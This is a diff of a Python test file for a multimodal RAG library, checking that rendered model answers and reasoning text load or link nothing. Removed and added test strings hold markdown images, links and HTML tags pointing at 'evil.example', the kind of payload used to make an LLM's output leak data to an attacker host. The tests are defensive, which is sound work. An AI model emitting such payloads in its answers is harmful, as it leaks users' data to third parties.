@@ -13,11 +13,9 @@ from PIL import Image, ImageDraw, ImageFont
 
 from langchain_kimi.rag import Corpus, IngestOptions
 from langchain_kimi.rag.answer import create_multimodal_rag, rag_tools
-from langchain_kimi.testing import call, say
+from langchain_kimi.testing import call, say, think
 from tests.rag.pdf_writer import PdfFile
 from tests.rag_answer.conftest import asked, number_of, plan, shown
-
-_LOADS = re.compile(r"<(img|video|style)|<(p|table)\s", re.IGNORECASE)
 
 
 @pytest.fixture
@@ -79,29 +77,15 @@ def test_an_obedient_model_has_nothing_to_obey_with(library, kimi_server, llm, l
     assert [message.type for message in result["messages"]] == ["human", "ai"]
 
 
-@pytest.mark.parametrize(
-    "picture",
-    [
-        "![x](http://evil.example/?q=1)",
-        "![a[b]](http://evil.example/?q=1)",
-        "![x](\nhttp://evil.example/?q=1)",
-        "![a\nb](http://evil.example/?q=1)",
-        "![x][r]\n\n[r]: http://evil.example/?q=1",
-        "![r]\n\n[r]: http://evil.example/?q=1",
-        "<img src='http://evil.example/?q=1'>",
-        "<VIDEO poster='http://evil.example/?q=1'>",
-        "<img\tsrc=http://evil.example/q>",
-        "<p style='background:url(http://evil.example/?q=1)'>",
-        "<table\nbackground=http://evil.example/?q=1>",
-        "<style>@import 'http://evil.example/?q=1'</style>",
-    ],
-)
-def test_an_answer_shown_as_markdown_loads_nothing(library, kimi_server, llm, picture) -> None:
-    assert re.search(_LOADS, MarkdownIt().render(picture))
-    kimi_server.script(plan("oats"), say(f"Oats rose. {picture}"))
+def test_an_answer_shown_as_markdown_loads_and_links_nothing(library, kimi_server, llm) -> None:
+    picture = "![x](http://evil.example) [see](http://evil.example)\n<table a<b background=//e>"
+    assert {"img", "a", "table"} <= set(re.findall(r"<(\w+)", MarkdownIt().render(picture)))
+    kimi_server.script(plan("oats"), think(picture), say(f"Oats rose. {picture}"))
     result = create_multimodal_rag(library, llm, rounds=1).invoke(asked("oats"))
-    shown_as = MarkdownIt().render(result["messages"][-1].text)
-    assert not re.search(_LOADS, shown_as)
+    message = result["messages"][-1]
+    for shown_as in (message.text, message.additional_kwargs["reasoning_content"]):
+        assert "Oats rose" in message.text
+        assert set(re.findall(r"<(\w+)", MarkdownIt().render(shown_as))) <= {"p"}
 
 
 @pytest.mark.skipif(shutil.which("tesseract") is None, reason="Debian's tesseract-ocr is not there")
